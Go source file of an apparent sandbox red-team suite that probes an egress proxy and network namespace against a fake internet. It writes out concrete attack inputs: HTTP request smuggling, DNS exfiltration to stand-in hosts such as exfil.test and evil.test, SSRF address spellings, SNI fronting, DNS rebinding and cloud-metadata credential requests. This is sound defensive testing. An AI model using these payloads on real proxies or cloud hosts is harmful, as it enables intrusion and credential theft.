package redteam

import (
	"context"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/cordon-sandbox/cordon/policy"
)

// The fake-internet cases: the egress proxy and the network namespace,
// attacked from a session whose policy allows allowed.test and
// *.allowed.test on ports 80 and 443 (suiteAllow) on top of the default.
// Their oracle is the fake internet itself (fakenet_linux.go): every
// server records what reaches it, the resolver records every lookup of a
// name outside the allowlists, and an arrival that neither carries the
// control token nor is what the session's policy allows is the attack.

// httpReq renders one HTTP/1.1 request head.
func httpReq(method, target, host string, extra ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", method, target)
	if host != "" {
		fmt.Fprintf(&b, "Host: %s\r\n", host)
	}
	for _, x := range extra {
		b.WriteString(x + "\r\n")
	}
	b.WriteString("\r\n")
	return b.String()
}

// get is a forwarding GET of url through the proxy, closing after it.
func get(url, host string, extra ...string) string {
	return httpReq("GET", url, host, append(extra, "Connection: close")...)
}

// qarg is s as one shell word the probes unquote (Go escapes).
func qarg(s string) string {
	q := strconv.Quote(s)
	return shq(q[1 : len(q)-1])
}

// viaProxy is shell text sending each request on its own connection to
// the session's proxy.
func viaProxy(reqs ...string) string {
	var b strings.Builder
	for _, r := range reqs {
		fmt.Fprintf(&b, `"$P" redteam probe proxy %s; `, qarg(r))
	}
	return b.String()
}

func netCase(id, title, probe, oracle, control, source string, needs Needs, run func(ctx context.Context, e *Env) Outcome) *Case {
	return &Case{ID: id, Class: Network, Title: title, Probe: probe, Oracle: oracle, Control: control, Source: source, Needs: needs | NeedNet, Run: run}
}

// netL is the fake-internet listener at addr ("ip:port", or "udp
// ip:port").
func (e *Env) netL(addr string) *Listener {
	if e.Net == nil || e.Net.ls[addr] == nil {
		panic("no fake-internet listener " + addr)
	}
	return e.Net.ls[addr]
}

// inControl runs cmd in a fresh control session with pol: where the same
// probe is allowed. It is never the attacked session, so it may carry the
// control token.
func (e *Env) inControl(ctx context.Context, pol *policy.Policy, cmd string) Obs {
	s, ws, err := e.openControl(ctx, pol)
	if err != nil {
		return Obs{Text: "error: " + err.Error(), Err: err}
	}
	defer e.CloseSession(s)
	return e.ShIn(ctx, s, ws, cmd, 30*time.Second)
}

// ctlAt runs run (a control) and returns its evidence: l got the
// control token. When it did not, the control's output is kept for the
// report.
func (e *Env) ctlAt(l *Listener, run func() Obs) []string {
	m := l.mark()
	o := run()
	ev := e.arrived(l, m)
	if len(ev) == 0 {
		e.ctlNote = tail(o.Text, 400)
	}
	return ev
}

// judged is a control for a content oracle: l got the control token in
// an arrival its legit rule refuses, so the rule fires on what the
// attack would deliver.
func (e *Env) judged(l *Listener, run func() Obs) []string {
	m := l.mark()
	o := run()
	l.settle(time.Now().Add(3 * time.Second))
	for _, a := range l.since(m) {
		if strings.Contains(a, e.CT) && l.legit != nil && !l.legit(a) {
			return []string{l.Addr + " got the control token in an arrival its rule refuses"}
		}
	}
	e.ctlNote = tail(o.Text, 400)
	return nil
}

// oks is the attack's own evidence: OK lines that count.
func oks(o Obs, keep func(string) bool) []string { return filter(o.OKs(), keep) }

func fakeNetCases() []*Case {
	loTCP := func(e *Env) string { return e.TCP.Addr } // the fixture's 127.0.0.1 listener
	return []*Case{
		netCase("N01", "direct egress ignoring the proxy variables",
			"connect() to 203.0.113.10:80/443, 203.0.113.20:443, 169.254.169.254:80, 10.0.0.1:80, [2001:db8:1::10]:80 from the session, no proxy",
			"a fake-internet server receives a byte, or a connect succeeds",
			"the same probe on the host (in the fake internet) reaches 203.0.113.10:80 with the control token",
			"N01: anthropics/claude-code#33249, docker/sbx-releases#605", 0,
			func(ctx context.Context, e *Env) Outcome {
				a := e.Sh(ctx, `env | grep -i proxy; for t in 203.0.113.10:80 203.0.113.10:443 203.0.113.20:443 169.254.169.254:80 10.0.0.1:80 [2001:db8:1::10]:80; do "$P" redteam probe connect tcp "$t"; done`)
				ctl := e.ctlAt(e.netL("203.0.113.10:80"), func() Obs { return e.Host(ctx, `"$P" redteam probe connect tcp 203.0.113.10:80 "$CT"`) })
				o := verdict(oks(a, contains("send")), ctl)
				if a.Res != nil {
					n := 0
					for _, d := range a.Res.Denials {
						if d.Rule == "network.direct" {
							n++
						}
					}
					o.Metrics = map[string]string{"network.direct_denials": strconv.Itoa(n)}
				}
				return o
			}),
		netCase("N02", "UDP, ICMP and DNS-over-UDP egress",
			"UDP datagrams to 203.0.113.10:9999 and :53 (a DNS query), [2001:db8:1::10]:53; raw ICMP socket",
			"a fake-internet UDP listener receives a datagram, or a raw socket opens",
			"the host sends three datagrams with the control token; one arrives",
			"N02: dust-tt/dust PR#25991, sandboxie-plus/Sandboxie#4207", 0,
			func(ctx context.Context, e *Env) Outcome {
				a := e.Sh(ctx, `for i in 1 2 3; do "$P" redteam probe connect udp 203.0.113.10:9999; done; "$P" redteam probe dnsq 203.0.113.10:53 "n02-$T.exfil.test"; "$P" redteam probe dnsq [2001:db8:1::10]:53 "n02b-$T.exfil.test"; "$P" redteam probe rawsock`)
				// UDP may drop a datagram (the first one to an address
				// waits on neighbour discovery): the control, like the
				// attack, sends three.
				ctl := e.ctlAt(e.netL("udp 203.0.113.10:9999"), func() Obs {
					return e.Host(ctx, `for i in 1 2 3; do "$P" redteam probe connect udp 203.0.113.10:9999 "$CT"; sleep 0.1; done`)
				})
				return verdict(oks(a, contains("socket raw")), ctl)
			}),
		netCase("N03", "DNS tunnelling through the session's resolver",
			"cat /etc/resolv.conf; getent hosts n03-<tag>.exfil.test; DNS queries to 127.0.0.1:53, 127.0.0.53:53, 203.0.113.10:53",
			"the fake DNS (the proxy's resolver) or a UDP listener sees the query, or resolv.conf names a server",
			"the host's query with the control token reaches 203.0.113.10:53",
			"N03: anthropic-experimental/sandbox-runtime#88, coder/httpjail#53", 0,
			func(ctx context.Context, e *Env) Outcome {
				a := e.Sh(ctx, `echo "resolv.conf: $(grep -c nameserver /etc/resolv.conf 2>/dev/null)"; getent hosts "n03-$T.exfil.test"; for s in 127.0.0.1:53 127.0.0.53:53 203.0.113.10:53; do "$P" redteam probe dnsq "$s" "n03b-$T.exfil.test"; done`)
				var bad []string
				if n := strings.TrimSpace(strings.TrimPrefix(firstLine(a.Text, "resolv.conf: "), "resolv.conf: ")); n != "0" && n != "" {
					bad = append(bad, "/etc/resolv.conf names "+n+" servers")
				}
				bad = append(bad, oks(a, contains("dns-answer"))...)
				ctl := e.ctlAt(e.netL("udp 203.0.113.10:53"), func() Obs { return e.Host(ctx, `"$P" redteam probe dnsq 203.0.113.10:53 "n03-$CT.exfil.test"`) })
				return verdict(bad, ctl)
			}),
		netCase("N04", "DNS exfiltration through the proxy's lookup of refused names",
			"through the proxy: GET http://n04a-<tag>.exfil.test/, CONNECT n04b-<tag>.exfil.test:443, SOCKS5 n04c-<tag>.exfil.test:80, CONNECT n04d-<tag>.exfil.test:22",
			"the proxy's resolver is asked for any of those names (the proxy must refuse before resolving)",
			"a control session allowing *.exfil.test makes the same GET with the control token in the name, and the resolver sees it",
			"N04: NVIDIA/OpenShell#1169", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				e.Sh(ctx, viaProxy(get("http://n04a-"+e.Tag+".exfil.test/", "n04a-"+e.Tag+".exfil.test"))+
					`"$P" redteam probe tls connect "n04b-$T.exfil.test:443" "n04b-$T.exfil.test" x; "$P" redteam probe socks "n04c-$T.exfil.test" 80; "$P" redteam probe tunnel connect "n04d-$T.exfil.test:22" 'x'`)
				ctl := e.ctlAt(e.DNS, func() Obs {
					return e.inControl(ctx, netPolicy([]string{"*.exfil.test"}), viaProxy(get("http://n04-"+e.CT+".exfil.test/", "n04-"+e.CT+".exfil.test")))
				})
				return verdict(nil, ctl)
			}),
		netCase("N06", "the proxy as SSRF into host loopback and private ranges (literals and spellings)",
			"(fresh: with 127.0.0.1, [::1] and 10.0.0.1 added to the session's allowlist as a grant would) GET and CONNECT through the proxy to 127.0.0.1:80, the harness's 127.0.0.1 listener, localhost, 127.1, 0.0.0.0, 0, [::1], 2130706433, 0x7f000001, 017700000001, x.localhost, [::ffff:127.0.0.1], 10.0.0.1; SOCKS5 to 127.0.0.1",
			"a loopback or private fake-internet server (or the harness's listener) receives a byte",
			"a control session whose policy allows 127.0.0.1 (allow and allow_private) reaches 127.0.0.1:80 with the control token",
			"N06: shpwrck/tactics#315, navikt/cplt PR#92, kortix-ai/suna PR#6096, lobu-ai/lobu PR#129", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				var reqs []string
				for _, t := range []string{"127.0.0.1:80", loTCP(e), "localhost:80", "127.1:80", "0.0.0.0:80", "0:80", "[::1]:80", "2130706433:80", "0x7f000001:80", "017700000001:80", "x.localhost:80", "[::ffff:127.0.0.1]:80", "10.0.0.1:80"} {
					reqs = append(reqs, get("http://"+t+"/N06-"+e.Tag, t), httpReq("CONNECT", t, t)+"N06-"+e.Tag)
				}
				if e.Mode == "fresh" {
					// As if granted: an allowlisted literal must still
					// not open host services (allow_private decides).
					if err := e.S.AllowHosts("127.0.0.1", "[::1]", "10.0.0.1"); err != nil {
						return Outcome{CouldNotRun: "AllowHosts: " + err.Error()}
					}
				}
				a := e.Sh(ctx, viaProxy(reqs...)+`"$P" redteam probe socks 127.0.0.1 80; "$P" redteam probe socks ::1 80`)
				ctl := e.ctlAt(e.netL("127.0.0.1:80"), func() Obs {
					return e.inControl(ctx, netPolicy([]string{"127.0.0.1"}, "127.0.0.1"), viaProxy(get("http://127.0.0.1/"+e.CT, "127.0.0.1")))
				})
				return verdict(oks(a, contains("socks")), ctl)
			}),
		netCase("N07", "the harness's addresses and ports from inside (gateway, 0.0.0.0 services)",
			"read /proc/net/route and ipv6_route; connect() to the harness's 0.0.0.0 listener at every fake-internet address and 127.0.0.1, and to ports 22 53 80 443 2375 5432 6379 8080 11434 of 203.0.113.10",
			"a route other than lo, a connect that succeeds, or a listener that receives a byte",
			"the host connects to its 0.0.0.0 listener at 203.0.113.10 with the control token",
			"N07: containers/podman#2642, rootless-containers/rootlesskit PR#612", 0,
			func(ctx context.Context, e *Env) Outcome {
				port := e.Any.Addr[strings.LastIndex(e.Any.Addr, ":")+1:]
				a := e.Sh(ctx, `awk 'NR>1 && $1!="lo" {print "ROUTE", $1, $2}' /proc/net/route; awk '$10!="lo" {print "ROUTE6", $10, $1}' /proc/net/ipv6_route
for ip in 203.0.113.10 203.0.113.20 10.0.0.1 169.254.169.254 127.0.0.1 [2001:db8:1::10]; do "$P" redteam probe connect tcp "$ip:`+port+`"; done
for p in 22 53 80 443 2375 5432 6379 8080 11434; do "$P" redteam probe connect tcp "203.0.113.10:$p"; done`)
				var bad []string
				for _, l := range strings.Split(a.Text, "\n") {
					if strings.HasPrefix(l, "ROUTE") {
						bad = append(bad, l)
					}
				}
				bad = append(bad, oks(a, contains("send"))...)
				ctl := e.ctlAt(e.Any, func() Obs { return e.Host(ctx, `"$P" redteam probe connect tcp 203.0.113.10:`+port+` "$CT"`) })
				return verdict(bad, ctl)
			}),
		netCase("N11", "pipelining, request smuggling and Upgrade through the forwarding proxy",
			"(b) GET allowed.test then GET http://evil.test/ pipelined on one connection; (c) CL.TE POST to allowed.test smuggling GET http://evil.test/; (c') TE.CL; (d) Upgrade: websocket then GET http://evil.test/. (a), a relay inside the session, asks the same proxy: the session's own decision (X07 covers another session's proxy)",
			"evil.test's server receives a byte, or allowed.test's server receives a request naming another host",
			"a control session allowing evil.test sends the same pipeline with the control token: evil.test's server receives it",
			"N11: anthropics/claude-code#87381, http-party/node-http-proxy#1721 (CVE-2026-29057), HackTricks PR#2063 (CVE-2026-2833)", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				evil := func(tag string) string { return get("http://evil.test/"+tag+"-"+e.Tag, "evil.test") }
				pipeline := httpReq("GET", "http://allowed.test/N11b", "allowed.test") + evil("N11b")
				clte := httpReq("POST", "http://allowed.test/N11c", "allowed.test", "Content-Length: 6", "Transfer-Encoding: chunked") + "0\r\n\r\nG" + strings.TrimPrefix(evil("N11c"), "G")
				tecl := httpReq("POST", "http://allowed.test/N11e", "allowed.test", "Transfer-Encoding: chunked", "Content-Length: 4") + fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(evil("N11e")), evil("N11e"))
				upgrade := httpReq("GET", "http://allowed.test/N11d", "allowed.test", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==") + evil("N11d")
				e.Sh(ctx, viaProxy(pipeline, clte, tecl, upgrade))
				ctl := e.ctlAt(e.netL("203.0.113.21:80"), func() Obs {
					return e.inControl(ctx, netPolicy([]string{"evil.test"}), viaProxy(httpReq("GET", "http://allowed.test/", "allowed.test")+get("http://evil.test/"+e.CT, "evil.test")))
				})
				return verdict(nil, ctl)
			}),
		netCase("N13", "non-HTTP ports on an allowlisted host",
			"CONNECT allowed.test:22, :25, :3306, :6379, :8443, :9418; SOCKS5 allowed.test:22; GET http://allowed.test:6379/ (the suite allows ports 80 and 443)",
			"allowed.test's server on a port outside the policy receives a byte",
			"a control session allowing allowed.test on every port reaches allowed.test:22 with the control token",
			"N13: shpwrck/tactics#315, initializ/forge PR#355, sandbox-runtime http-proxy-ssh-refusal.test.ts", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				cmd := `for p in 22 25 3306 6379 8443 9418; do "$P" redteam probe tunnel connect "allowed.test:$p" 'SSH-2.0-N13\r\n'; done; "$P" redteam probe socks allowed.test 22; ` + viaProxy(get("http://allowed.test:6379/N13", "allowed.test:6379"))
				a := e.Sh(ctx, cmd)
				ctl := e.ctlAt(e.netL("203.0.113.20:22"), func() Obs {
					return e.inControl(ctx, netPolicy([]string{"allowed.test"}), `"$P" redteam probe tunnel connect allowed.test:22 'SSH-2.0-`+e.CT+`\r\n'`)
				})
				return verdict(oks(a, contains("tunnel")), ctl)
			}),
		netCase("N14", "exfiltration to an allowlisted host (policy residual)",
			"POST a marker to http://allowed.test/tenants/attacker/upload and in a query string; PUT through a CONNECT tunnel to allowed.test:443",
			"the data reaches anything but allowed.test's server. That it reaches allowed.test is the residual docs/network.md states (an allowlisted host can receive uploads): reported, not an attack",
			"allowed.test's server received the marker: the upload path works, and the oracle watches every other server",
			"N14: microsoft/vscode#297462, anthropic-experimental/sandbox-runtime#97, anthropics/claude-code#52375", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				marker := "residual-" + e.Tag
				l := e.netL("203.0.113.20:80")
				m := l.mark()
				e.Sh(ctx, viaProxy(httpReq("POST", "http://allowed.test/tenants/attacker/upload", "allowed.test", "Content-Length: "+strconv.Itoa(len(marker)), "Connection: close")+marker,
					get("http://allowed.test/search?q="+marker, "allowed.test"))+`"$P" redteam probe tls connect allowed.test:443 allowed.test `+marker)
				l.settle(time.Now().Add(3 * time.Second))
				var ctl []string
				for _, a := range l.since(m) {
					if strings.Contains(a, marker) {
						ctl = []string{"allowed.test's server received the marker (the documented residual)"}
						break
					}
				}
				o := verdict(nil, ctl)
				o.Metrics = map[string]string{"residual": "uploads to an allowlisted host reach it"}
				return o
			}),
		netCase("N15", "IPv6 paths",
			"read /proc/net/if_inet6 and ipv6_route; connect() to [2001:db8:1::10]:80 and [fd00:ec2::254]:80; through the proxy: GET http://[2001:db8:1::10]/, CONNECT [2001:db8:1::10]:443, SOCKS5 to 2001:db8:1::10, GET http://meta6.allowed.test/ and http://lo6.allowed.test/",
			"an IPv6 interface other than lo, or a fake-internet IPv6 server receives a byte",
			"the host reaches [2001:db8:1::10]:80 with the control token",
			"N15: dust-tt/dust PR#25991, rootless-containers/slirp4netns#93", 0,
			func(ctx context.Context, e *Env) Outcome {
				a := e.Sh(ctx, `awk '$6!="lo" {print "IF6", $6, $1}' /proc/net/if_inet6; for t in [2001:db8:1::10]:80 [fd00:ec2::254]:80; do "$P" redteam probe connect tcp "$t"; done; `+
					viaProxy(get("http://[2001:db8:1::10]/N15", "[2001:db8:1::10]"), httpReq("CONNECT", "[2001:db8:1::10]:443", "[2001:db8:1::10]:443")+"N15",
						get("http://meta6.allowed.test/N15", "meta6.allowed.test"), get("http://lo6.allowed.test/N15", "lo6.allowed.test"))+
					`"$P" redteam probe socks 2001:db8:1::10 80`)
				var bad []string
				for _, l := range strings.Split(a.Text, "\n") {
					if strings.HasPrefix(l, "IF6") {
						bad = append(bad, l)
					}
				}
				bad = append(bad, oks(a, func(l string) bool { return strings.HasPrefix(l, "send") || strings.HasPrefix(l, "socks") })...)
				ctl := e.ctlAt(e.netL("[2001:db8:1::10]:80"), func() Obs { return e.Host(ctx, `"$P" redteam probe connect tcp [2001:db8:1::10]:80 "$CT"`) })
				return verdict(bad, ctl)
			}),
		netCase("N17", "proxy credentials and host confusion in forwarded requests",
			"GET http://allowed.test/ with Proxy-Authorization and Proxy-Connection; http://allowed.test./ with Host: evil.test; http://ALLOWED.test/; http://allowed.test/redirect (answered 302 to evil.test)",
			"allowed.test's server receives a Proxy-* header or a Host naming another host, or evil.test's server receives a byte (a followed redirect)",
			"the host sends allowed.test's server such a request with the control token, and its rule refuses it",
			"N17: kortix-ai/suna PR#6096, sandbox-runtime canonical-host-routing.test.ts", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				e.Sh(ctx, viaProxy(get("http://allowed.test/N17a-"+e.Tag, "allowed.test", "Proxy-Authorization: Basic Y29yZG9uOnJlZHRlYW0=", "Proxy-Connection: keep-alive"),
					get("http://allowed.test./N17b-"+e.Tag, "evil.test"), get("http://ALLOWED.test/N17c-"+e.Tag, "ALLOWED.test"), get("http://allowed.test/redirect-N17d-"+e.Tag, "allowed.test")))
				ctl := e.judged(e.netL("203.0.113.20:80"), func() Obs {
					return e.Host(ctx, `"$P" redteam probe tunnel direct 203.0.113.20:80 `+qarg(get("/"+e.CT, "evil.test", "Proxy-Authorization: Basic eA==")))
				})
				return verdict(nil, ctl)
			}),
		netCase("N24", "TLS SNI fronting through an allowlisted CONNECT",
			"CONNECT allowed.test:443 and SOCKS5 allowed.test:443 with a ClientHello for evil.test; CONNECT allowed.test:8443 (not allowlisted) with SNI allowed.test",
			"allowed.test's TLS server completes a handshake naming another host, or its 8443 server receives a byte",
			"the host handshakes with allowed.test's server for evil.test with the control token, and the rule refuses it",
			"new (issue 6: SNI fronting); docs/network.md TLS inspection", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				a := e.Sh(ctx, `"$P" redteam probe tls connect allowed.test:443 evil.test "N24a-$T"; "$P" redteam probe tls socks allowed.test:443 evil.test "N24b-$T"; "$P" redteam probe tls connect allowed.test:8443 allowed.test "N24c-$T"`)
				ctl := e.judged(e.netL("203.0.113.20:443"), func() Obs {
					return e.Host(ctx, `"$P" redteam probe tls direct 203.0.113.20:443 evil.test "$CT"`)
				})
				return verdict(oks(a, contains("tls handshake sni=evil")), ctl)
			}),
		netCase("N25", "allowlisted names that resolve to metadata, private, IPv4-mapped and NAT64 loopback addresses",
			"GET, CONNECT and SOCKS5 to meta.allowed.test, meta6.allowed.test, private.allowed.test, mapped.allowed.test (::ffff:127.0.0.1), nat64.allowed.test (64:ff9b::7f00:1), lo6.allowed.test (::1)",
			"the metadata, private or loopback server receives a byte, or the metadata secret comes back",
			"a control session whose allow_private has 10.0.0.1 reaches private.allowed.test with the control token",
			"new (issue 6); N06/R09 by name; PrimeIntellect-ai/verifiers PR#2024", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				var reqs []string
				for _, h := range []string{"meta.allowed.test", "meta6.allowed.test", "private.allowed.test", "mapped.allowed.test", "nat64.allowed.test", "lo6.allowed.test"} {
					reqs = append(reqs, get("http://"+h+"/N25-"+e.Tag, h), httpReq("CONNECT", h+":443", h+":443"))
				}
				a := e.Sh(ctx, viaProxy(reqs...)+`for h in meta.allowed.test private.allowed.test mapped.allowed.test; do "$P" redteam probe socks "$h" 80; done`)
				ctl := e.ctlAt(e.netL("10.0.0.1:80"), func() Obs {
					return e.inControl(ctx, netPolicy(nil, "10.0.0.1"), viaProxy(get("http://private.allowed.test/"+e.CT, "private.allowed.test")))
				})
				return verdict(oks(a, contains("socks")), ctl)
			}),
		netCase("N26", "absolute-URI host against the Host header",
			"GET http://allowed.test/ with Host: evil.test; GET http://evil.test/ with Host: allowed.test; origin-form GET / with Host: allowed.test; absolute URI in CONNECT's Host",
			"evil.test's server receives a byte, or allowed.test's server receives a request naming another host",
			"the host sends allowed.test's server a request naming evil.test with the control token, and its rule refuses it",
			"new (issue 6: absolute-URI host vs Host header); RFC 9112 §3.2.2", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				e.Sh(ctx, viaProxy(get("http://allowed.test/N26a-"+e.Tag, "evil.test"), get("http://evil.test/N26b-"+e.Tag, "allowed.test"),
					get("/N26c-"+e.Tag, "allowed.test"), httpReq("CONNECT", "allowed.test:443", "evil.test:443")+"N26d"))
				ctl := e.judged(e.netL("203.0.113.20:80"), func() Obs {
					return e.Host(ctx, `"$P" redteam probe tunnel direct 203.0.113.20:80 `+qarg(get("/"+e.CT, "evil.test")))
				})
				return verdict(nil, ctl)
			}),
		netCase("N27", "SOCKS5 IP literals, domain-typed literals and other commands",
			"SOCKS5 CONNECT to 203.0.113.10:80, [2001:db8:1::10]:80, 10.0.0.1:80; the domain type carrying \"203.0.113.10\" and \"127.0.0.1\"; BIND and UDP ASSOCIATE; a SOCKS4 request",
			"a fake-internet server receives a byte, or the proxy grants BIND or UDP ASSOCIATE",
			"a control session allowing 203.0.113.10 reaches it by SOCKS5 with the control token",
			"N (issue 6: SOCKS IP literal); docs/network.md SOCKS5", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				bind := "\x05\x01\x00\x05\x02\x00\x01\xcb\x00\x71\x0a\x00\x50"
				udp := "\x05\x01\x00\x05\x03\x00\x01\xcb\x00\x71\x0a\x00\x50"
				socks4 := "\x04\x01\x00\x50\xcb\x00\x71\x0acordon\x00"
				a := e.Sh(ctx, `for t in "203.0.113.10 80" "2001:db8:1::10 80" "10.0.0.1 80" "dom:203.0.113.10 80" "dom:127.0.0.1 80"; do "$P" redteam probe socks $t "N27-$T"; done; `+viaProxy(bind, udp, socks4))
				var bad []string
				for _, l := range strings.Split(a.Text, "\n") {
					// a granted BIND or UDP ASSOCIATE answers 05 00
					if strings.HasPrefix(l, "reply ") && strings.Contains(l, `"\x05\x00\x05\x00`) {
						bad = append(bad, "granted: "+l)
					}
				}
				ctl := e.ctlAt(e.netL("203.0.113.10:80"), func() Obs {
					return e.inControl(ctx, netPolicy([]string{"203.0.113.10"}), `"$P" redteam probe socks 203.0.113.10 80 `+e.CT)
				})
				return verdict(append(bad, oks(a, contains("socks"))...), ctl)
			}),
		netCase("N28", "an allowlisted name resolving to loopback, and DNS rebinding",
			"GET, CONNECT and SOCKS5 to lo.allowed.test (127.0.0.1); rebind.allowed.test (answers 203.0.113.20 and 127.0.0.1 in turn, TTL 0) six times; mixed.allowed.test (both at once)",
			"a loopback server of the harness receives a byte",
			"a control session whose allow_private has 127.0.0.1 reaches lo.allowed.test with the control token",
			"N06: shpwrck/tactics#315 (allowlisted name to loopback), lobu-ai/lobu PR#129 (pin the resolved IP)", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				reqs := []string{get("http://lo.allowed.test/N28-"+e.Tag, "lo.allowed.test"), httpReq("CONNECT", "lo.allowed.test:443", "lo.allowed.test:443") + "N28"}
				for i := 0; i < 6; i++ {
					reqs = append(reqs, get("http://rebind.allowed.test/N28-"+e.Tag, "rebind.allowed.test"))
				}
				reqs = append(reqs, get("http://mixed.allowed.test/N28-"+e.Tag, "mixed.allowed.test"), httpReq("CONNECT", "mixed.allowed.test:443", "mixed.allowed.test:443")+"N28")
				a := e.Sh(ctx, viaProxy(reqs...)+`"$P" redteam probe socks lo.allowed.test 80; for i in 1 2 3; do "$P" redteam probe tls connect rebind.allowed.test:443 rebind.allowed.test x; done`)
				ctl := e.ctlAt(e.netL("127.0.0.1:80"), func() Obs {
					return e.inControl(ctx, netPolicy(nil, "127.0.0.1"), viaProxy(get("http://lo.allowed.test/"+e.CT, "lo.allowed.test")))
				})
				return verdict(oks(a, contains("socks")), ctl)
			}),
		netCase("N29", "non-TLS through an allowlisted CONNECT on 443",
			"CONNECT allowed.test:443 then plain HTTP naming evil.test; SOCKS5 allowed.test:443 then an SSH banner; CONNECT allowed.test:443 then a TLS record that is no ClientHello",
			"allowed.test's TLS server receives anything but a handshake naming an allowlisted host",
			"the host sends allowed.test's TLS port plain text with the control token, and its rule refuses it",
			"new (issue 6: non-TLS on 443); docs/network.md TLS inspection", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				e.Sh(ctx, `"$P" redteam probe tunnel connect allowed.test:443 `+qarg(get("/N29a-"+e.Tag, "evil.test"))+
					`; "$P" redteam probe tunnel socks allowed.test:443 'SSH-2.0-N29b\r\n'; "$P" redteam probe tunnel connect allowed.test:443 '\x16\x03\x01\x00\x05N29cc'`)
				ctl := e.judged(e.netL("203.0.113.20:443"), func() Obs {
					return e.Host(ctx, `"$P" redteam probe tunnel direct 203.0.113.20:443 `+qarg(get("/"+e.CT, "evil.test")))
				})
				return verdict(nil, ctl)
			}),
		netCase("N30", "a keep-alive client switching hosts and ports",
			"on one connection, after each answer: GET http://allowed.test/, GET http://evil.test/, GET http://allowed.test:22/, GET http://exfil.test/",
			"evil.test's or exfil.test's server, or allowed.test's port 22, receives a byte",
			"a control session allowing evil.test makes the same sequence with the control token: evil.test's server receives it",
			"new (issue 6: HTTP keep-alive switching hosts); catalog N17 (d)", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				e.Sh(ctx, `"$P" redteam probe proxyseq `+qarg(httpReq("GET", "http://allowed.test/N30", "allowed.test"))+" "+qarg(httpReq("GET", "http://evil.test/N30-"+e.Tag, "evil.test"))+" "+
					qarg(httpReq("GET", "http://allowed.test:22/N30-"+e.Tag, "allowed.test:22"))+" "+qarg(get("http://exfil.test/N30-"+e.Tag, "exfil.test")))
				ctl := e.ctlAt(e.netL("203.0.113.21:80"), func() Obs {
					return e.inControl(ctx, netPolicy([]string{"evil.test"}), `"$P" redteam probe proxyseq `+qarg(httpReq("GET", "http://allowed.test/", "allowed.test"))+" "+qarg(get("http://evil.test/"+e.CT, "evil.test")))
				})
				return verdict(nil, ctl)
			}),
		netCase("N31", "URL and authority parsing confusion",
			"forwarding requests for http://allowed.test@evil.test/, http://evil.test#@allowed.test/, http://evil.test\\@allowed.test/, http://allowed.test.evil.test/, http://evil.test%2eallowed.test/, http://evil.test:80:allowed.test/, HTTP://EVIL.TEST/, http://evil.test\\t.allowed.test/; CONNECT \"allowed.test:443 evil.test:443\" and \"evil.test:443#allowed.test:443\"",
			"evil.test's server receives a byte, the resolver is asked for a name outside the allowlists, or allowed.test's server gets a request naming another host",
			"a control session allowing evil.test fetches http://evil.test/ with the control token: evil.test's server receives it",
			"new (issue 6: the proxy interface); kortix-ai/suna PR#6096 (authority spellings)", NeedAPI,
			func(ctx context.Context, e *Env) Outcome {
				var reqs []string
				for _, u := range []string{"http://allowed.test@evil.test/", "http://evil.test#@allowed.test/", "http://evil.test\\@allowed.test/", "http://allowed.test.evil.test/", "http://evil.test%2eallowed.test/",
					"http://evil.test:80:allowed.test/", "HTTP://EVIL.TEST/", "http://evil.test\t.allowed.test/", "http://evil.test%00.allowed.test/"} {
					reqs = append(reqs, get(u+"N31-"+e.Tag, "allowed.test"))
				}
				reqs = append(reqs, httpReq("CONNECT", "allowed.test:443 evil.test:443", "allowed.test")+"N31", httpReq("CONNECT", "evil.test:443#allowed.test:443", "allowed.test")+"N31")
				e.Sh(ctx, viaProxy(reqs...))
				ctl := e.ctlAt(e.netL("203.0.113.21:80"), func() Obs {
					return e.inControl(ctx, netPolicy([]string{"evil.test"}), viaProxy(get("http://evil.test/"+e.CT, "evil.test")))
				})
				return verdict(nil, ctl)
			}),
		netCase("N32", "direct egress without connect(): TCP Fast Open, IPv4-mapped IPv6, and the connect check raced",
			"sendto(MSG_FASTOPEN) to 203.0.113.10:80; connect() to [::ffff:203.0.113.10]:80; for 400 ms one thread connect()s while another flips the address between a loopback listener of its own and 203.0.113.10:80 (the supervisor checks the address the kernel reads later)",
			"203.0.113.10's server receives a byte, or a connection's peer is 203.0.113.10",
			"the same TCP Fast Open send from the host reaches 203.0.113.10:80 with the control token",
			"new: seccomp connect notification (docs/network.md: the check is a report, the namespace the boundary)", 0,
			func(ctx context.Context, e *Env) Outcome {
				a := e.Sh(ctx, `"$P" redteam probe fastopen 203.0.113.10:80 "N32-$T"; "$P" redteam probe connect tcp6 "[::ffff:203.0.113.10]:80"; "$P" redteam probe connrace 127.0.0.1:0 203.0.113.10:80`)
				ctl := e.ctlAt(e.netL("203.0.113.10:80"), func() Obs { return e.Host(ctx, `"$P" redteam probe fastopen 203.0.113.10:80 "$CT"`) })
				o := verdict(oks(a, func(l string) bool { return strings.HasPrefix(l, "connected") || strings.HasPrefix(l, "send") }), ctl)
				for _, l := range strings.Split(a.Text, "\n") {
					if strings.HasPrefix(l, "connrace ") {
						o.Metrics = map[string]string{"connrace": strings.TrimPrefix(l, "connrace ")}
					}
				}
				return o
			}),
	}
}

// metadataCase is R09: the cloud metadata endpoint, in the fake internet.
func metadataCase() *Case {
	return &Case{ID: "R09", Class: Read, Title: "cloud metadata endpoint (169.254.169.254, fd00:ec2::254)", Needs: NeedNet,
		Probe:   "connect() to 169.254.169.254:80 and [fd00:ec2::254]:80; through the proxy: GET http://169.254.169.254/latest/meta-data/iam/security-credentials/, http://metadata.google.internal/ (Metadata-Flavor), http://instance-data/, http://meta.allowed.test/ (allowlisted, resolves to the metadata address), http://[fd00:ec2::254]/; CONNECT and SOCKS5 to 169.254.169.254:80",
